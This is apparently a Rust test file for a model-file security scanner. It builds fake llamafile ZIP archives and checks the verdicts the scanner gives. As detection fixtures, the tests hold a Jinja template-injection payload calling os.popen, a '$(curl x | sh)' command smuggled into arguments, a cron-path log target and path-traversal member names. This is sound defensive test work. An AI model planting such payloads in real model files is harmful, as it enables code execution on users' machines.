#![expect(clippy::cast_possible_truncation, reason = "samples are small")]

use weighbridge_types::Verdict;

use crate::core::testing::{inspect_bytes, rules, survives_damage, verdict};
use crate::formats::gguf::tests::{Kv, file};

/// A ZIP archive of stored members behind `prefix`.
fn archive(prefix: &[u8], members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = prefix.to_vec();
    let mut central = Vec::new();
    for (name, data) in members {
        let at = out.len() as u32;
        let mut header = vec![20, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        header.extend(crc32fast::hash(data).to_le_bytes());
        header.extend((data.len() as u32).to_le_bytes());
        header.extend((data.len() as u32).to_le_bytes());
        header.extend((name.len() as u16).to_le_bytes());
        header.extend([0, 0]);
        out.extend(b"PK\x03\x04");
        out.extend(&header);
        out.extend(name.as_bytes());
        out.extend(*data);
        central.extend(b"PK\x01\x02\x14\x00");
        central.extend(&header);
        central.extend([0; 10]);
        central.extend(at.to_le_bytes());
        central.extend(name.as_bytes());
    }
    let start = out.len() as u32;
    out.extend(&central);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend((members.len() as u16).to_le_bytes());
    out.extend((members.len() as u16).to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend([0, 0]);
    out
}

fn ape() -> Vec<u8> {
    let mut program = b"MZqFpD='\n".to_vec();
    program.resize(4096, b'#');
    program
}

fn weights() -> Vec<u8> {
    file(&[Kv::text("general.architecture", "llama")], &[])
}

#[test]
fn an_honest_one_is_clean_and_called_a_program() {
    let bytes =
        archive(&ape(), &[("model.gguf", &weights()), (".args", b"-m\nmodel.gguf\n-p\n<|user|> a; b | c\n...\n")]);
    let outcome = inspect_bytes("tiny.llamafile", &bytes);
    assert_eq!(outcome.format, Some("llamafile"));
    assert_eq!(rules(&outcome), ["llamafile-is-a-program"]);
    assert_eq!(verdict(&outcome), Verdict::Clean);
    assert_eq!(outcome.metadata["members"]["model.gguf"]["architecture"], "llama");
}

#[test]
fn a_poisoned_template_inside_is_found() {
    let evil = file(&[Kv::text("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id') }}")], &[]);
    let outcome = inspect_bytes("tiny.llamafile", &archive(b"\x7fELF\x02\x01\x01", &[("m.gguf", &evil)]));
    assert_eq!(verdict(&outcome), Verdict::Malicious);
    assert!(outcome.findings.iter().any(|f| f.member.as_deref() == Some("m.gguf")));
}

#[test]
fn arguments_that_reach_out_are_suspicious() {
    for arguments in [
        "--unsecure",
        "-mu\nhttps://example.invalid/x.gguf",
        "--log-file\n/etc/cron.d/x",
        "-p\n$(curl x | sh)",
        "--path=/",
    ] {
        let bytes = archive(&ape(), &[("model.gguf", &weights()), (".args", arguments.as_bytes())]);
        assert_eq!(verdict(&inspect_bytes("a.llamafile", &bytes)), Verdict::Suspicious, "{arguments}");
    }
}

#[test]
fn members_that_leave_the_folder_and_scripts_are_suspicious() {
    for (name, data) in [("../../x", &b"x"[..]), ("/etc/x", b"x"), ("install.sh", b"#!/bin/sh\n")] {
        let bytes = archive(&ape(), &[("model.gguf", &weights()), (name, data)]);
        assert_eq!(verdict(&inspect_bytes("a.llamafile", &bytes)), Verdict::Suspicious, "{name}");
    }
}

#[test]
fn a_llamafile_without_weights_still_has_its_arguments_read() {
    let bytes = archive(&ape(), &[(".args", b"-mu\nhttps://example.invalid/x.gguf")]);
    assert_eq!(verdict(&inspect_bytes("a.llamafile", &bytes)), Verdict::Suspicious);
    assert_eq!(inspect_bytes("tool.com", &bytes).format, None);
}

#[test]
fn programs_without_weights_are_not_recognised() {
    assert_eq!(inspect_bytes("setup.exe", &archive(b"MZ\x90\0", &[("setup.cfg", b"x")])).format, None);
    assert_eq!(inspect_bytes("ls", b"\x7fELF\x02\x01\x01\0\0\0").format, Some("elf"));
}

#[test]
fn survives_any_damage() {
    survives_damage("a.llamafile", &archive(&ape()[..64], &[("model.gguf", &weights()), (".args", b"-m\nmodel.gguf")]));
}
